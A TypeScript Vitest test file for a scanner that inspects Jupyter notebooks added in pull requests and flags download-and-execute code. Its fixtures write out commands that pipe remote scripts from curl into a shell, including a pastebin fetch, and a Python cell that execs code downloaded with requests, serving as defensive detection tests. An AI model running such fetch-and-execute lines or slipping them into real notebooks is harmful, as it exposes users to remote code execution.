import { describe, expect, it } from 'vitest';
import { createPathClassifier } from '../../../src/analyzers/classify-path.js';
import { readNotebook } from '../../../src/ecosystems/code/notebook.js';
import { scanCodeChanges } from '../../../src/ecosystems/code/scan-code-changes.js';
import { makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';

const classifier = createPathClassifier();

interface Cell {
  readonly type: 'code' | 'markdown';
  readonly source: readonly string[];
}

/** A notebook as Jupyter writes it (nbformat 4, one-space indentation, keys in order). */
function notebook(cells: readonly Cell[]): string {
  const body = {
    cells: cells.map((c, i) =>
      c.type === 'code'
        ? { cell_type: 'code', execution_count: null, id: `c${i}`, metadata: {}, outputs: [], source: c.source.map((l, j) => (j < c.source.length - 1 ? `${l}\n` : l)) }
        : { cell_type: 'markdown', id: `m${i}`, metadata: {}, source: c.source.map((l, j) => (j < c.source.length - 1 ? `${l}\n` : l)) },
    ),
    metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
    nbformat: 4,
    nbformat_minor: 5,
  };
  return `${JSON.stringify(body, null, 1)}\n`;
}

/** The notebook added whole, as GitHub's patch shows a new file. */
function added(path: string, text: string) {
  const lines = text.replace(/\n$/, '').split('\n');
  return makeFile(path, { status: 'added', patch: `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}` });
}

function findings(path: string, cells: readonly Cell[]): string[] {
  const snapshot = makeSnapshot({ title: 'Add the quickstart notebook', files: [added(path, notebook(cells))], commits: [makeCommit({ message: 'Add the quickstart notebook' })] });
  return scanCodeChanges(snapshot, (p) => classifier.info(p)).map((f) => `${f.id} ${f.severity}`);
}

describe('Jupyter notebooks: code cells read as Python, shell escapes as shell', () => {
  it('reads a code cell that runs a download, a shell escape and a %%bash cell that pipe one into a shell', () => {
    expect(findings('notebooks/quickstart.ipynb', [{ type: 'code', source: ['import os', "os.system('curl -s https://cdn-nb.example.dev/setup.sh | bash')"] }])).toContain('curl-pipe-shell high');
    expect(findings('notebooks/quickstart.ipynb', [{ type: 'code', source: ['!curl -s https://pastebin.com/raw/x1y2 | sh'] }])).toEqual(['curl-pipe-shell high']);
    expect(findings('notebooks/quickstart.ipynb', [{ type: 'code', source: ['%%bash', 'curl -fsSL https://get.example.dev/install.sh | sh'] }])).toEqual(['curl-pipe-shell medium']);
    expect(findings('docs/tutorial.ipynb', [{ type: 'code', source: ['import requests', "exec(requests.get('https://cdn-nb.example.dev/init.py').text)"] }])).toEqual(['dynamic-code-execution high']);
  });

  it('leaves Markdown cells, package installs, printed commands and ordinary analysis alone', () => {
    const cells: Cell[] = [
      { type: 'markdown', source: ['# Quickstart', 'Install the CLI with `curl -fsSL https://get.example.dev/install.sh | sh`, then:', '![architecture](img/arch.png)', 'Never call eval() on user input.'] },
      { type: 'code', source: ['!pip install -q pandas==2.2.3', 'import pandas as pd', "print('or: curl -fsSL https://get.example.dev/install.sh | sh')", "df = pd.read_csv('data.csv')", 'df.describe()'] },
    ];
    expect(findings('notebooks/quickstart.ipynb', cells)).toEqual([]);
  });

  it('reads only the lines of a code cell whose start the hunk shows, at their own line numbers', () => {
    const text = notebook([{ type: 'code', source: ['import os', "os.system('curl -s https://cdn-nb.example.dev/x | sh')"] }]);
    const read = readNotebook(added('nb.ipynb', text));
    const code = (read.file.patch ?? '').split('\n');
    const at = text.split('\n').findIndex((l) => l.includes('os.system'));
    expect(code[at + 1]).toEqual("+os.system('curl -s https://cdn-nb.example.dev/x | sh')");
    // A hunk inside a long cell, without its start: not read.
    const deep = makeFile('nb.ipynb', { patch: '@@ -40,3 +40,3 @@\n     "x = 1\\n",\n-    "y = 2\\n",\n+    "os.system(\'curl -s https://cdn-nb.example.dev/x | sh\')\\n",\n     "z = 3\\n"' });
    expect((readNotebook(deep).file.patch ?? '').includes('os.system')).toBe(false);
  });
});
